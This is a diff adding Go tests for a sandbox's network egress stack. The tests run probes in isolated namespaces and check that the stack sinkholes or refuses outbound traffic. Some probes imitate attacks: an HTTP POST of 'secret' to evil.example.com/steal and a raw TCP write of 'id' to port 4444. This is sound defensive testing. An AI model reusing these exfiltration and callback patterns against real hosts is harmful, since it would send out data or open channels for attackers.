@@ -1,0 +1,294 @@
+package egress
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/moat-sandbox/moat"
+)
+
+// The stack changes routes and nftables, so it runs in a child of the
+// test in new user and network namespaces: the test runner's network is
+// never touched. The child starts the stack, runs one probe against it
+// (as the program would), and prints the probe's result and the events.
+const (
+	childMode  = "EGRESS_TEST_MODE"
+	childProbe = "EGRESS_TEST_PROBE"
+)
+
+type childReport struct {
+	Result string       `json:"result"`
+	Err    string       `json:"err"`
+	Events []moat.Event `json:"events"`
+}
+
+func TestMain(m *testing.M) {
+	if mode := os.Getenv(childMode); mode != "" {
+		os.Exit(child(mode, os.Getenv(childProbe)))
+	}
+	os.Exit(m.Run())
+}
+
+func child(mode, probe string) int {
+	if err := linkUp("lo"); err != nil {
+		fmt.Fprintln(os.Stderr, "lo:", err)
+		return 2
+	}
+	cfg, err := FromNetwork(moat.Network(mode))
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 2
+	}
+	var rep childReport
+	rec := NewRecorder(func(ev moat.Event) { rep.Events = append(rep.Events, ev) })
+	s, err := Start(cfg, rec, refuseAll{})
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "start:", err)
+		return 2
+	}
+	res, err := probes[probe]()
+	rep.Result = res
+	if err != nil {
+		rep.Err = err.Error()
+	}
+	s.Close(2 * time.Second)
+	_ = json.NewEncoder(os.Stdout).Encode(&rep)
+	return 0
+}
+
+type refuseAll struct{}
+
+func (refuseAll) Dial(string, int) (net.Conn, error) { return nil, fmt.Errorf("refused by test") }
+
+func linkUp(name string) error {
+	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return err
+	}
+	defer unix.Close(fd)
+	ifr, err := unix.NewIfreq(name)
+	if err != nil {
+		return err
+	}
+	if err := unix.IoctlIfreq(fd, unix.SIOCGIFFLAGS, ifr); err != nil {
+		return err
+	}
+	ifr.SetUint16(ifr.Uint16() | unix.IFF_UP)
+	return unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, ifr)
+}
+
+func lookupA(name string) (string, error) {
+	r := &net.Resolver{PreferGo: true, Dial: func(_ context.Context, network, _ string) (net.Conn, error) {
+		return net.Dial(network, "127.0.0.53:53")
+	}}
+	addrs, err := r.LookupHost(context.Background(), name)
+	if err != nil {
+		return "", err
+	}
+	return strings.Join(addrs, ","), nil
+}
+
+var probes = map[string]func() (string, error){
+	"http": func() (string, error) {
+		a, err := lookupA("evil.example.com")
+		if err != nil {
+			return "", err
+		}
+		c := &http.Client{Transport: &http.Transport{Dial: func(network, _ string) (net.Conn, error) {
+			return net.Dial(network, net.JoinHostPort(a, "80"))
+		}}, Timeout: 5 * time.Second}
+		resp, err := c.Post("http://evil.example.com/steal?x=1", "text/plain", strings.NewReader("secret"))
+		if err != nil {
+			return "", err
+		}
+		resp.Body.Close()
+		return resp.Status, nil
+	},
+	"tls": func() (string, error) {
+		c, err := net.DialTimeout("tcp", "198.51.100.1:443", 3*time.Second)
+		if err != nil {
+			return "", err
+		}
+		tc := tls.Client(c, &tls.Config{ServerName: "bank.example"})
+		err = tc.Handshake()
+		return "", err
+	},
+	"raw": func() (string, error) {
+		c, err := net.DialTimeout("tcp", "203.0.113.9:4444", 3*time.Second)
+		if err != nil {
+			return "", err
+		}
+		_, _ = c.Write([]byte("id\n"))
+		c.Close()
+		return "sent", nil
+	},
+	"udp": func() (string, error) {
+		c, err := net.Dial("udp", "198.51.100.7:9999")
+		if err != nil {
+			return "", err
+		}
+		_, err = c.Write([]byte("ping"))
+		c.Close()
+		time.Sleep(100 * time.Millisecond)
+		return "sent", err
+	},
+	"dns-any": func() (string, error) {
+		// A query straight to a public resolver is answered from there.
+		r := &net.Resolver{PreferGo: true, Dial: func(_ context.Context, network, _ string) (net.Conn, error) {
+			return net.Dial("udp", "8.8.8.8:53")
+		}}
+		addrs, err := r.LookupHost(context.Background(), "direct.example.org")
+		return strings.Join(addrs, ","), err
+	},
+	"loopback": func() (string, error) {
+		// 127.0.0.1 inside is the sandbox's own: nothing listens there.
+		c, err := net.DialTimeout("tcp", "127.0.0.1:1", time.Second)
+		if err == nil {
+			c.Close()
+			return "connected", nil
+		}
+		return "", err
+	},
+	"nxdomain": func() (string, error) { return lookupA("not-allowed.example") },
+	"refused": func() (string, error) {
+		c, err := net.DialTimeout("tcp", "203.0.113.9:4444", 3*time.Second)
+		if err != nil {
+			return "", err
+		}
+		defer c.Close()
+		_ = c.SetDeadline(time.Now().Add(3 * time.Second))
+		_, err = c.Read(make([]byte, 1))
+		return "", err
+	},
+}
+
+func runChild(t *testing.T, mode, probe string) childReport {
+	t.Helper()
+	cmd := exec.Command(os.Args[0], "-test.run=^$")
+	cmd.Env = append(os.Environ(), childMode+"="+mode, childProbe+"="+probe)
+	cmd.SysProcAttr = &syscall.SysProcAttr{
+		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET,
+		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Geteuid(), Size: 1}},
+		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getegid(), Size: 1}},
+	}
+	var stdout, stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	if err := cmd.Start(); err != nil {
+		t.Skipf("cannot create user and network namespaces: %v", err)
+	}
+	if err := cmd.Wait(); err != nil {
+		t.Fatalf("child: %v: %s", err, stderr.String())
+	}
+	var rep childReport
+	if err := json.Unmarshal(stdout.Bytes(), &rep); err != nil {
+		t.Fatalf("child output %q: %v (stderr %s)", stdout.String(), err, stderr.String())
+	}
+	return rep
+}
+
+func find(evs []moat.Event, kind, addr string) *moat.Event {
+	for i := range evs {
+		if evs[i].Kind == kind && (addr == "" || evs[i].Addr == addr) {
+			return &evs[i]
+		}
+	}
+	return nil
+}
+
+func findDetail(evs []moat.Event, kind, prefix string) *moat.Event {
+	for i := range evs {
+		if evs[i].Kind == kind && strings.HasPrefix(evs[i].Detail, prefix) {
+			return &evs[i]
+		}
+	}
+	return nil
+}
+
+func TestSinkholeHTTP(t *testing.T) {
+	rep := runChild(t, "sinkhole", "http")
+	if rep.Err != "" || rep.Result != "200 OK" {
+		t.Fatalf("probe: %q %q", rep.Result, rep.Err)
+	}
+	d := findDetail(rep.Events, "dns", "sinkholed A ")
+	if d == nil || d.Name != "evil.example.com" || !strings.HasPrefix(d.Detail, "sinkholed A 198.18.") {
+		t.Fatalf("dns event: %+v", rep.Events)
+	}
+	c := find(rep.Events, "connect", "")
+	if c == nil || c.Name != "evil.example.com" || c.Path != "/steal?x=1" || !strings.Contains(c.Detail, "host=evil.example.com") || !strings.Contains(c.Data, "secret") {
+		t.Fatalf("connect event: %+v", rep.Events)
+	}
+}
+
+func TestSinkholeTLS(t *testing.T) {
+	rep := runChild(t, "sinkhole", "tls")
+	c := find(rep.Events, "connect", "198.51.100.1:443")
+	if c == nil || c.Name != "bank.example" || !strings.Contains(c.Detail, "tls sni=bank.example") {
+		t.Fatalf("events: %+v (probe %q)", rep.Events, rep.Err)
+	}
+}
+
+func TestSinkholeRaw(t *testing.T) {
+	rep := runChild(t, "sinkhole", "raw")
+	c := find(rep.Events, "connect", "203.0.113.9:4444")
+	if rep.Err != "" || c == nil || c.Data != `id\n` || c.Detail != "sinkholed tcp" {
+		t.Fatalf("events: %+v (probe %q)", rep.Events, rep.Err)
+	}
+}
+
+func TestSinkholeUDP(t *testing.T) {
+	rep := runChild(t, "sinkhole", "udp")
+	c := find(rep.Events, "connect", "198.51.100.7:9999")
+	if rep.Err != "" || c == nil || c.Data != "ping" || !strings.HasPrefix(c.Detail, "sinkholed udp") {
+		t.Fatalf("events: %+v (probe %q)", rep.Events, rep.Err)
+	}
+}
+
+func TestSinkholeDNSAnywhere(t *testing.T) {
+	rep := runChild(t, "sinkhole", "dns-any")
+	if rep.Err != "" || !strings.HasPrefix(rep.Result, "198.18.") {
+		t.Fatalf("probe: %q %q", rep.Result, rep.Err)
+	}
+	if d := find(rep.Events, "dns", "8.8.8.8:53"); d == nil || d.Name != "direct.example.org" {
+		t.Fatalf("events: %+v", rep.Events)
+	}
+}
+
+func TestSinkholeLoopbackStaysInside(t *testing.T) {
+	rep := runChild(t, "sinkhole", "loopback")
+	if !strings.Contains(rep.Err, "refused") {
+		t.Fatalf("connect to the sandbox's own 127.0.0.1:1: %q %q", rep.Result, rep.Err)
+	}
+	if len(rep.Events) != 0 {
+		t.Fatalf("loopback traffic was intercepted: %+v", rep.Events)
+	}
+}
+
+func TestAllowRefuses(t *testing.T) {
+	rep := runChild(t, "allow=example.com:443", "nxdomain")
+	if rep.Err == "" {
+		t.Fatalf("name off the list resolved: %q", rep.Result)
+	}
+	if d := findDetail(rep.Events, "dns", "refused A NXDOMAIN"); d == nil || d.Name != "not-allowed.example" {
+		t.Fatalf("events: %+v", rep.Events)
+	}
+	rep = runChild(t, "allow=example.com:443", "refused")
+	if !strings.Contains(rep.Err, "reset") {
+		t.Fatalf("connection off the list: %q %q", rep.Result, rep.Err)
+	}
+	if c := find(rep.Events, "connect", "203.0.113.9:4444"); c == nil || c.Detail != "refused tcp" {
+		t.Fatalf("events: %+v", rep.Events)
+	}
+}
